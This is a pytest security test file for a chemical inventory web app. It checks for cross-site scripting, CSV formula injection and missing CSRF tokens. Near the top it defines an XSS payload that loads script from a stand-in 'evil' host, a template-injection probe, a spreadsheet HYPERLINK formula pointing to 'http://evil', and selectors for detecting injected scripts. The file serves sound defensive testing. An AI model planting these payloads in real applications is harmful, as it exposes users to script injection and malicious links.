"""Everything that people write stays text: on every page that shows it, in every search that repeats it, and in exported files."""

import csv
import io
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlencode, urljoin

import pytest
from bs4 import BeautifulSoup, Tag

from tests.api.test_every_route import ok
from tests.api.test_imports import commit, read, uploaded
from tests.installation import PAGES, Installation
from tests.pages.test_crawl import Crawler
from tests.sql.shelf import shelf

EVIL = "\"'><script src=//evil></script><img src=x onerror=evil()>{{1117*1117}}"
FORMULA = '=HYPERLINK("http://evil","x")'
MARKS = (
    "script[src*=evil]",
    "img[src=x]",
    "[onerror]",
    "[onload]",
    "[onclick]",
    "[onfocus]",
    "[href^='javascript:' i]",
)


@pytest.fixture(scope="module")
def hostile(installation: Installation) -> None:
    """Everything that can be written in Curie lab is written by somebody who means harm."""
    installation.psql("UPDATE control.users SET name = %s WHERE username IN ('ada', 'ben')", f"Ada {EVIL}")
    installation.psql("UPDATE control.labs SET name = %s WHERE slug = 'curie'", f"Curie {EVIL}")
    ada = installation.as_user("ada")

    def post(path: str, body: object) -> dict[str, object]:
        return dict(ok(ada.post(f"/labs/curie{path}", json=body)))

    words = ("name", "supplier", "catalogue_number", "notes")
    chemical = {name: f"{name} {EVIL}" for name in words} | {
        "synonyms": [f"synonym {EVIL}", FORMULA],
        "storage_class": EVIL[:40],
        "low_stock_amount": "1000000",
        "low_stock_unit": "g",
    }
    number = post("/chemicals", chemical)["id"]
    with shelf(installation) as on:  # as it may have been kept before SMILES were read
        on.run("UPDATE inventory.chemicals SET smiles = %s WHERE id = %s", f"smiles {EVIL}", number)
    post("/chemicals", {"name": FORMULA, "notes": FORMULA})
    room = post("/locations", {"kind": "room", "name": f"Room {EVIL}"})["id"]
    line = {"chemical_id": number, "count": 3, "pack_size": "100", "pack_unit": "g", "location_id": room}
    line |= {name: f"{name} {EVIL}" for name in ("lot", "catalogue_number", "purity")} | {"expires_on": "2020-01-01"}
    made = post("/deliveries", {"order_number": f"Order {EVIL}", "supplier": f"Supplier {EVIL}", "lines": [line]})
    containers = made["containers"]
    assert isinstance(containers, list)
    first, second, third = (container["id"] for container in containers)
    ok(ada.patch(f"/labs/curie/containers/{first}", json={"notes": f"notes {EVIL}"}))
    taken = post(
        "/check-outs",
        {"purpose": f"Purpose {EVIL}", "lines": [{"container_id": first, "amount": "1", "unit": "g"}]},
    )["items"]
    assert isinstance(taken, list)
    fixed = {"movement_id": taken[0]["movement_id"], "amount": "2", "unit": "g"}
    post("/corrections", {"reason": f"Correction {EVIL}", "lines": [fixed]})
    post("/holdings", {"container_ids": [second]})
    post("/disposals", {"reason": f"Disposal {EVIL}", "lines": [{"container_id": third}]})
    stocktake = post("/stocktakes", {"location_id": room})["id"]
    post(f"/stocktakes/{stocktake}/counts", {"lines": [{"container_id": first, "counted": "5", "unit": "g"}]})
    reasons = {"lines": [{"container_id": first, "reason": f"Reason {EVIL}"}]}
    ok(ada.patch(f"/labs/curie/stocktakes/{stocktake}/counts", json=reasons))
    file = io.StringIO()
    csv.writer(file).writerows(
        [
            ["Name", "Amount", "Room", f"Odd column {EVIL}", "Notes"],
            [f"Imported {EVIL}", "5 g", f"Shelf {EVIL}", EVIL, f"notes {EVIL}"],
            [f"Bad {EVIL}", f"much {EVIL}", EVIL, EVIL, EVIL],
            [FORMULA, "5 g", FORMULA, FORMULA, FORMULA],
        ]
    )
    for loads in (True, False):
        path = uploaded(ada, file.getvalue())
        read(ada, path)
        if loads:
            commit(ada, path)


def living(text: str) -> list[str]:
    """The elements and attributes of a page that would run something which is not ChemTrack's own."""
    soup = BeautifulSoup(text, "html.parser")
    return [str(tag)[:200] for mark in MARKS for tag in soup.select(mark)] + (["1247689"] if "1247689" in text else [])


@pytest.fixture(scope="module")
def seen(installation: Installation, hostile: None) -> dict[str, tuple[int, str]]:
    """All pages that Ada can reach, and those of administration; no files."""
    found = Crawler(installation, "ada").crawl("/", "/home/curie") | Crawler(installation, "root").crawl("/admin")
    return {path: answer for path, answer in found.items() if "." not in path.partition("?")[0]}


@pytest.mark.timeout(300)
def test_no_page_runs_what_somebody_wrote(seen: dict[str, tuple[int, str]]) -> None:
    assert {path: found for path, (_, text) in seen.items() if (found := living(text))} == {}
    shown = {path for path, (_, text) in seen.items() if "&gt;&lt;script src=//evil&gt;" in text}
    for page in sorted(set(PAGES) - {"login", "programs"}):
        assert any(path.startswith(f"/{page}") for path in shown), f"/{page} shows nothing of it, so it was not tried"


def questions(seen: dict[str, tuple[int, str]]) -> Iterator[str]:
    """The address of every form that only searches or filters, with the same text in each of its fields."""
    asked = set()
    for path, (_, text) in seen.items():
        for form in BeautifulSoup(text, "html.parser").select("form:not([method=post])"):
            target = urljoin(path, str(form.get("action") or path)).partition("?")[0]
            names = tuple(sorted({str(field["name"]) for field in form.select("[name]") if isinstance(field, Tag)}))
            if names and (target, names) not in asked and target.startswith("/") and "." not in target:
                asked.add((target, names))
                yield f"{target}?{urlencode(dict.fromkeys(names, EVIL))}"


@pytest.mark.timeout(300)
def test_no_page_runs_what_stands_in_its_address(installation: Installation, seen: dict[str, tuple[int, str]]) -> None:
    crawlers = {who: Crawler(installation, who) for who in ("ada", "root")}
    repeated = 0
    for address in questions(seen):
        status, _, text = crawlers["root" if address.startswith("/admin") else "ada"].get(address)
        assert status < 500, address
        assert living(text) == [], address
        repeated += "&lt;script src=//evil&gt;" in text
    assert repeated > 3


@pytest.mark.parametrize("path", ["/chemicals.csv", "/containers.csv", "/history.csv"])
def test_no_cell_of_an_export_is_a_formula(installation: Installation, hostile: None, path: str) -> None:
    text = installation.as_user("ada").get(f"/labs/curie{path}").content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    assert [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))] == []


TAKING_FORMS = [
    page
    for page in PAGES
    if page != "programs"  # knows no cookie, so no other site can send anything in somebody's name
    and any(
        "blueprint.post(" in file.read_text() or "POST" in file.read_text()
        for file in (Path(__file__).parents[2] / "pages" / page).glob("*.py")
    )
]


SIGNED = ["/login/single-sign-on/ended"]
"""What the identity provider sends, which has no cookie; the API verifies its signature (tests/api/test_identity_provider.py)."""


@pytest.mark.parametrize("page", TAKING_FORMS)
def test_nothing_is_sent_without_the_forms_token(installation: Installation, page: str) -> None:
    """Every address that takes a form refuses a form that another site has made."""
    browser, tried = installation.page(page, "root" if page == "admin" else "ada"), 0
    app = installation.page_app(page)
    with app.test_request_context():
        for rule in app.url_map.iter_rules():
            for method in sorted((rule.methods or set()) & {"POST", "PUT", "PATCH", "DELETE"}):
                values = {name: "curie" if name == "lab" else "1" for name in rule.arguments}
                path = str(app.url_map.bind("localhost").build(rule.endpoint, values, method=method))
                if path in SIGNED:
                    continue
                answer = browser.open(path, method=method, data={"key": "a-key-of-a-form"})
                assert answer.status_code == 400, f"{method} {path}: {answer.status_code}"
                assert "This form is too old" in answer.text
                tried += 1
    assert tried
